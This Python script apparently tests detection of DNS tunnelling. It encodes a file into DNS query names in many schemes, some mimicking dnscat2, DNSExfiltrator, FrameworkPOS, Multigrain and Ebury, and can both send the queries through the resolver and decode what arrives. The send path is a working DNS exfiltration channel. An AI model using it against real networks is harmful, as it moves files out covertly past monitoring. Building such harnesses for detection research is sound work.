"""Ways to say a file in DNS names, each with what its receiver reads from them.

encoders.py send NAME ZONE FILE [RESOLVER|- [FROM TO]]   in a sandbox: asks for every name, or some
encoders.py read NAME ZONE <ARRIVALS                     prints "BITS HEX": lines "name type" as they came at the name server
"""
import base64
import os
import socket
import struct
import sys

TYPES = [1, 28, 2, 5, 6, 12, 15, 16, 33, 35, 64, 65, 255, 257, 10, 25]
# What a meter that knows usual names takes for cheap.
WORDS = ("www mail api cdn static img dev test app web blog shop docs login admin m mx ns ftp smtp imap vpn git ci "
         "data news media files help status auth id s3 us eu asia east west north south one two blue green red alpha beta prod "
         "stage edge core node db cache log search map video chat cloud home info pay ns1").split()
assert len(WORDS) == 64


def bits_of(data):
    return "".join(f"{byte:08b}" for byte in data)


def chunks(text, size):
    return [text[i:i + size] for i in range(0, len(text), size)]


def numbers(data, bits):
    """The file as numbers of so many bits, zeros at its end."""
    return [int(part.ljust(bits, "0"), 2) for part in chunks(bits_of(data), bits)]


def labels(text, size=60):
    return ".".join(chunks(text, size))


class Chunks:
    """Pieces of the file, each with its number: DNSExfiltrator, and whatever else sends text. `frame` is what the kind
    of malware puts around a piece."""

    def __init__(self, size, encode, decode, frame="{number}.{text}", at=1):
        self.size, self.encode, self.decode, self.frame, self.at = size, encode, decode, frame, at

    def names(self, data):
        for number, part in enumerate(chunks(data, self.size)):
            yield self.frame.format(number=number, text=labels(self.encode(part))), 1

    def read(self, arrivals):
        parts = {}
        for name, _ in arrivals:
            words = name.split(".")
            if not words[0].lstrip("x").isdigit():
                continue  # the resolver's own
            parts[int(words[0].lstrip("x"))] = self.decode("".join(words[self.at:]))
        data = b"".join(parts[number] for number in sorted(parts))
        return 8 * len(data), data


class Numbers:
    """So many bits a query, in the order of arrival."""

    def __init__(self, bits, say, hear):
        self.bits, self.say, self.hear = bits, say, hear

    def names(self, data):
        return [self.say(number) for number in numbers(data, self.bits)]

    def read(self, arrivals):
        text = "".join(f"{self.hear(*arrival):0{self.bits}b}" for arrival in arrivals)
        return len(text), bytes(int(part, 2) for part in chunks(text, 8) if len(part) == 8)


class Dnscat2(Chunks):
    """dnscat2's packets in hexadecimal digits: SYN, MSG with a sequence number, FIN; types in turn."""

    def __init__(self):
        super().__init__(30, None, None)

    def names(self, data):
        head = struct.pack(">HBH", 0x1111, 0, 0xbeef)
        yield labels((head + struct.pack(">HH", 0, 0)).hex()), 16
        for i, part in enumerate(chunks(data, self.size)):
            packet = struct.pack(">HBHHH", 0x2000 + i, 1, 0xbeef, i * self.size, 0) + part
            yield labels(packet.hex()), (15, 5, 16)[i % 3]
        yield labels(struct.pack(">HBH", 0x3333, 2, 0xbeef).hex()), 16

    def read(self, arrivals):
        parts = {}
        for name, _ in arrivals:
            packet = bytes.fromhex(name.replace(".", ""))
            if packet[2] == 1:
                parts[struct.unpack(">H", packet[5:7])[0]] = packet[9:]
        data = b"".join(parts[at] for at in sorted(parts))
        return 8 * len(data), data


def b32(data):
    return base64.b32encode(data).decode().rstrip("=").lower()


def b32back(text):
    return base64.b32decode(text.upper() + "=" * (-len(text) % 8))


def b64(data):
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


def b64back(text):
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def xored(data):
    return bytes(byte ^ 0xaa for byte in data)


def say_case(number):
    return "".join(c.upper() if number >> i & 1 else c for i, c in enumerate("abcdefghijklmnop")), 1


def hear_case(name, _):
    return sum(c.isupper() << i for i, c in enumerate(name[:16]))


ENCODERS = {
    # As it comes: names of 240 characters.
    "dnsexfiltrator": Chunks(120, b64, b64back),
    "base64": Chunks(60, b64, b64back),
    "base32": Chunks(48, b32, b32back),
    "hex": Chunks(40, bytes.hex, bytes.fromhex),
    "hex4": Chunks(2, bytes.hex, bytes.fromhex),
    "dnscat2": Dnscat2(),
    # Interactsh and Burp's collaborator: the piece before an id of 33 characters.
    "oast": Chunks(18, b32, lambda t: b32back(t[:-33]), "{number}.{text}." + "c6k2o0" * 5 + "abc"),
    # FrameworkPOS: "id.grp.hex", each byte xored; Multigrain: "log.base32"; Ebury: "hex.address".
    "frameworkpos": Chunks(36, lambda d: "tt1" + xored(d).hex(), lambda t: xored(bytes.fromhex(t[3:])), "x{number}.grp.{text}", 2),
    "multigrain": Chunks(40, b32, b32back, "x{number}.log.{text}", 2),
    "ebury": Chunks(30, lambda d: xored(d).hex(), lambda t: xored(bytes.fromhex(t[:-8])), "{number}.{text}.203.0.113.7"),
    "decimal": Chunks(3, lambda d: str(int.from_bytes(b"\1" + d, "big")),
                      lambda t: int(t).to_bytes(4, "big")[1:]),
    "words": Numbers(18, lambda n: (f"{WORDS[n >> 12]}.{WORDS[n >> 6 & 63]}.{WORDS[n & 63]}", 1),
                     lambda name, _: sum(WORDS.index(w) << 12 - 6 * i for i, w in enumerate(name.split(".")))),
    "case": Numbers(16, say_case, hear_case),
    "qtype": Numbers(4, lambda n: ("t", TYPES[n]), lambda _, kind: TYPES.index(kind)),
    "alphabet16": Numbers(4, lambda n: ("abcdefghijklmnop"[n], 1), lambda name, _: "abcdefghijklmnop".index(name)),
    "repeat": Numbers(1, lambda n: ("01"[n], 1), lambda name, _: int(name)),
    "hop": Chunks(30, bytes.hex, bytes.fromhex),
}


def zone_of(zone, number):
    """ "evil*.test" stands for a hundred zones in turn."""
    return zone.replace("*", str(number % 100))


def send(name, zone, path, resolver="-", first="0", last="1000000"):
    if resolver == "-":
        with open("/etc/resolv.conf") as file:
            resolver = next(line.split()[1] for line in file if line.startswith("nameserver"))
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.settimeout(10)
    with open(path, "rb") as file:
        data = file.read()
    refused = 0
    for number, (below, kind) in enumerate(ENCODERS[name].names(data)):
        if not int(first) <= number < int(last):
            continue
        wire = b"".join(bytes([len(w)]) + w.encode() for w in f"{below}.{zone_of(zone, number)}".split("."))
        try:
            server.sendto(os.urandom(2) + struct.pack(">HHHHH", 0x100, 1, 0, 0, 0) + wire + b"\0" + struct.pack(">HH", kind, 1), (resolver, 53))
            server.recv(4096)
        except PermissionError:
            refused += 1
        except TimeoutError:
            pass
    print(f"refused {refused}")


def read(name, zone):
    arrivals, tail = [], zone.split("*")[-1]
    for line in sys.stdin:
        asked, kind = line.split()
        if not asked.lower().endswith(tail):
            continue
        below = asked[:-len(tail)]
        if "*" in zone:
            below = below.rpartition("." + zone.split("*")[0])[0]
        arrivals.append((below.rstrip("."), int(kind)))
    count, data = ENCODERS[name].read(arrivals)
    print(count, data.hex())


if __name__ == "__main__":
    {"send": send, "read": read}[sys.argv[1]](*sys.argv[2:])
